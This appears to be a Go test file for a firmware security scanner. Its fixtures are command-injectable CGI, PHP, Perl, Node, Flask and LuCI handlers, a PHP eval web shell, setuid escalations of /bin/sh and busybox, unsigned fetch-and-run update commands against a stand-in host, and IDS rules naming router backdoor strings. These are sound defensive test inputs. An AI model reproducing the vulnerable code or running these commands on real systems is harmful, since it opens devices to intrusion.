package inspect_test

import (
	"strings"
	"testing"
)

// Pages in further languages, lists of others' marks, rights and fetches.
func TestWebForms(t *testing.T) {
	php := func(s string) []string { return []string{"www/a.php", s} }
	hs := func(s string) []string {
		return []string{"usr/bin/haserl", prog("haserl"), "www/cgi-bin/h.cgi", "0755 #!/usr/bin/haserl\n" + s}
	}
	su := func(n string) string { return "4755 " + strings.TrimPrefix(prog(n), "0755 ") }
	tryVariants(t, []variant{
		{"haserl eval", hs("Content-type: text/html\n\n<% eval \"ping -c1 $FORM_ip\" %>\n"), injected},
		{"haserl sh -c", hs("Content-type: text/html\n\n<% sh -c \"ping $GET_ip\" %>\n"), injected},
		{"haserl safe", hs("Content-type: text/html\n\n<% ping -c1 \"$FORM_ip\" %>\n"), ""},
		{"awk system", cgiScript("awk 'BEGIN { system(\"ping \" ENVIRON[\"QUERY_STRING\"]) }'\n"), injected},
		{"xargs sh", cgiScript("echo \"$QUERY_STRING\" | xargs -I{} sh -c 'ping {}'\n"), injected},
		{"body dd", cgiScript("POST=$(dd bs=1 count=$CONTENT_LENGTH 2>/dev/null)\nCMD=$(echo \"$POST\" | sed -n 's/.*cmd=//p')\n$CMD\n"), injected},
		{"bash n", cgiScript("read -n $CONTENT_LENGTH B\nbash -c \"$B\"\n"), injected},
		{"cookie", cgiScript("U=$(echo \"$HTTP_COOKIE\" | cut -d= -f2)\neval \"log $U\"\n"), injected},
		{"source file", cgiScript("case $QUERY_STRING in page=*) cat \"/www/${QUERY_STRING#page=}\";; esac\n"), ""},
		{"urldecode printf", cgiScript("V=$(printf '%b' \"${QUERY_STRING//%/\\\\x}\")\necho \"$V\"\n"), ""},
		{"test number", cgiScript("N=${QUERY_STRING#n=}\n[ \"$N\" -eq \"$N\" ] 2>/dev/null || exit 1\neval \"sleep $N\"\n"), ""},
		{"constant eval", cgiScript("eval $(cat /etc/conf)\necho $QUERY_STRING\n"), ""},
		{"php passthru", php("<?php passthru('nslookup '.$_REQUEST['d']); ?>"), injected},
		{"php popen cookie", php("<?php $f = popen(\"cat {$_COOKIE['f']}\", 'r'); ?>"), injected},
		{"php intval", php("<?php $n = intval($_GET['n']); system(\"sleep $n\"); $m=(int)$_GET['m']; system('sleep '.$m); ?>"), ""},
		{"php filter_var", php("<?php $ip = filter_var($_GET['ip'], FILTER_VALIDATE_IP); if ($ip === false) die(); exec('ping '.$ip); ?>"), ""},
		{"php switch", php("<?php switch($_GET['a']) { case 'r': $c='reboot'; break; default: $c='true'; } system($c); ?>"), ""},
		{"php ctype", php("<?php $n=$_GET['n']; if (!ctype_digit($n)) exit; system('sleep '.$n); ?>"), ""},
		{"php mysqli exec", php("<?php $db->exec('insert '.$_GET['x']); curl_exec($ch); ?>"), ""},
		{"php eval", php("<?php @eval($_POST['z']); ?>"), "web.command-injection probable"},
		{"php include", php("<?php include('pages/home.php'); ?>"), ""},
		{"perl qx", []string{"www/cgi-bin/p.pl", "0755 #!/usr/bin/perl\nuse CGI;\nmy $q = new CGI;\nmy $h = $q->param('h');\nprint qx(ping -c1 $h);\n"}, injected},
		{"perl open pipe", []string{"www/cgi-bin/p.pl", "0755 #!/usr/bin/perl\nuse CGI;\nmy $q = new CGI;\nmy $h = $q->param('h');\nopen(F, \"ping $h |\");\n"}, injected},
		{"perl checked", []string{"www/cgi-bin/p.pl", "0755 #!/usr/bin/perl\nuse CGI;\nmy $q = new CGI;\nmy $h = $q->param('h');\n$h =~ /^[\\w.]+$/ or die;\nsystem(\"ping $h\");\n"}, ""},
		{"node", []string{"opt/app/server.js", "const { exec } = require('child_process');\napp.get('/p', (req, res) => { exec('ping ' + req.query.ip, (e, o) => res.send(o)); });\n"}, injected},
		{"node execFile", []string{"opt/app/server.js", "const { execFile } = require('child_process');\napp.get('/p', (req, res) => { execFile('ping', [req.query.ip], (e, o) => res.send(o)); });\n"}, ""},
		{"flask", []string{"opt/app/app.py", "from flask import Flask, request\nimport subprocess\napp = Flask(__name__)\n@app.route('/p')\ndef p():\n    ip = request.args.get('ip')\n    return subprocess.check_output('ping -c1 ' + ip, shell=True)\n"}, injected},
		{"flask list", []string{"opt/app/app.py", "from flask import Flask, request\nimport subprocess\napp = Flask(__name__)\n@app.route('/p')\ndef p():\n    ip = request.args.get('ip')\n    return subprocess.check_output(['ping', '-c1', ip])\n"}, ""},
		{"luci shellquote", []string{"usr/lib/lua/luci/controller/x.lua", "local h = luci.http.formvalue('h')\nluci.sys.call('ping ' .. luci.util.shellquote(h))\n"}, ""},
		{"luci call", []string{"usr/lib/lua/luci/controller/x.lua", "local h = luci.http.formvalue('h')\nluci.sys.call('ping -c1 ' .. h .. ' >/dev/null')\n"}, injected},

		{"ids rules", []string{"etc/snort/rules/web.rules", "alert tcp any any -> any 80 (msg:\"ZTE F460 web_shell_cmd.gch\"; content:\"/web_shell_cmd.gch\"; sid:1;)\nalert tcp any any -> any 80 (content:\"xmlset_roodkcableoj28840ybtide\"; sid:2;)\nalert tcp any any -> any 9530 (content:\"OpenTelnet:OpenOnce\"; sid:3;)\n"}, ""},
		{"nse script", []string{"usr/share/nmap/scripts/dlink.nse", "local ua = 'xmlset_roodkcableoj28840ybtide'\n-- sends OpenTelnet:OpenOnce\n"}, ""},
		{"oui list", []string{"usr/share/misc/oui.txt", "00-E0-FC   (hex)\t\tHUAWEI TECHNOLOGIES CO.,LTD\n00-19-C6   (hex)\t\tzte corporation\nC0-56-E3   (hex)\t\tHangzhou Hikvision Digital Technology Co.,Ltd.\n", "usr/share/hwdata/usb.ids", "12d1  Huawei Technologies Co., Ltd.\n19d2  ZTE WCDMA Technologies MSM\n"}, ""},
		{"modeswitch", []string{"etc/usb_modeswitch.d/12d1:1446", "# Huawei, newer modems\nTargetVendor=0x12d1\nHuaweiMode=1\n", "usr/share/usb_modeswitch/19d2:2000", "# ZTE MF627\nTargetVendor=0x19d2\n"}, ""},
		{"modem manager", []string{"usr/lib/ModemManager/libmm-plugin-huawei.so", prog("mm_plugin_huawei\x00Huawei Technologies\x00^SYSCFG"), "lib/udev/rules.d/77-mm-huawei-net-port-types.rules", "ATTRS{idVendor}!=\"12d1\", GOTO=\"x\"\n"}, ""},
		{"wifi drivers", []string{"lib/modules/5.15.150/mt76.ko", moduleOf("name=mt76\x00license=GPL\x00author=x\x00vermagic=5.15.150 SMP\x00"), "lib/modules/5.15.150/r8152.ko", moduleOf("name=r8152\x00license=GPL\x00author=Realtek linux nic maintainers <nic_swsd@realtek.com>\x00vermagic=5.15.150 SMP\x00"), "lib/modules/5.15.150/brcmfmac.ko", moduleOf("name=brcmfmac\x00license=GPL\x00author=Broadcom Corporation\x00vermagic=5.15.150 SMP\x00")}, ""},
		{"timezone and ca", []string{"usr/share/zoneinfo/Asia/Shanghai", "TZif2", "etc/ssl/certs/ca.txt", "subject=C = CN, O = China Financial Certification Authority\n"}, ""},
		{"camera client", []string{"usr/share/motion/cameras.json", "[{\"brand\":\"Hikvision\",\"url\":\"/Streaming/Channels/1\"},{\"brand\":\"Dahua\",\"url\":\"/cam/realmonitor\"}]\n"}, ""},

		{"setuid find", []string{"usr/bin/find", su("GNU find")}, "exec.setuid suspicious"},
		{"setuid env", []string{"usr/bin/env", su("GNU env")}, "exec.setuid suspicious"},
		{"setuid tcpdump", []string{"usr/sbin/tcpdump", su("tcpdump version 4.99")}, "exec.setuid suspicious"},
		{"setuid ping", []string{"bin/ping", su("ping statistics"), "bin/mount", su("mount: only root"), "usr/bin/sudo", su("sudo"), "usr/bin/passwd", su("passwd")}, ""},
		{"setuid by script", started("chmod 4755 /bin/sh\n"), "exec.setuid suspicious"},
		{"setuid copy", started("cp /bin/busybox /tmp/.s; chmod u+s /tmp/.s\n"), "exec.setuid suspicious"},
		{"chmod normal", started("chmod 755 /bin/x\nchmod 0644 /etc/y\nchmod 1777 /tmp\n"), ""},
		{"world-writable start", []string{"etc/init.d/S70app", "0777 #!/bin/sh\n/bin/true\n"}, "exec.world-writable suspicious"},
		{"world-writable data", []string{"var/lib/data.txt", "0666 x\n"}, ""},

		{"update curl ash", started("curl -s http://u.example.invalid/i.sh | ash\n"), "update.unsigned probable"},
		{"update python", started("python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://u.example.invalid/x.py\").read())'\n", "usr/bin/python3", prog("py")), "update.unsigned probable"},
		{"apk repositories", []string{"etc/apk/repositories", "http://dl-cdn.example.invalid/alpine/v3.19/main\n"}, ""},
		{"apk untrusted", started("wget -O /tmp/a.apk http://u.example.invalid/a.apk\napk add --allow-untrusted /tmp/a.apk\n"), "update.unsigned probable"},
		{"dpkg fetched", started("wget -q http://u.example.invalid/a.deb -P /tmp && dpkg -i /tmp/a.deb\n"), "update.unsigned probable"},
		{"pinned key", started("curl --cacert /etc/ca.pem -o /tmp/f https://u.example.invalid/f && sh /tmp/f\n"), ""},
		{"signify", started("wget -O /tmp/f http://u.example.invalid/f && signify -V -p /etc/k.pub -m /tmp/f && sh /tmp/f\n"), ""},
		{"sha from https", started("wget -O /tmp/f http://u.example.invalid/f\nS=$(wget -qO- https://u.example.invalid/f.sha256)\necho \"$S  /tmp/f\" | sha256sum -c && sysupgrade /tmp/f\n"), ""},
		{"pinned sum", started("wget -O /tmp/f http://u.example.invalid/f\necho '3f79bb7b435b05321651daefd374cdc681dc06faa65e374e38337b88ca046dea  /tmp/f' | sha256sum -c - && sh /tmp/f\n"), ""},
		{"spider", started("wget -q --spider http://u.example.invalid/ && touch /tmp/online\n"), ""},
	})
}
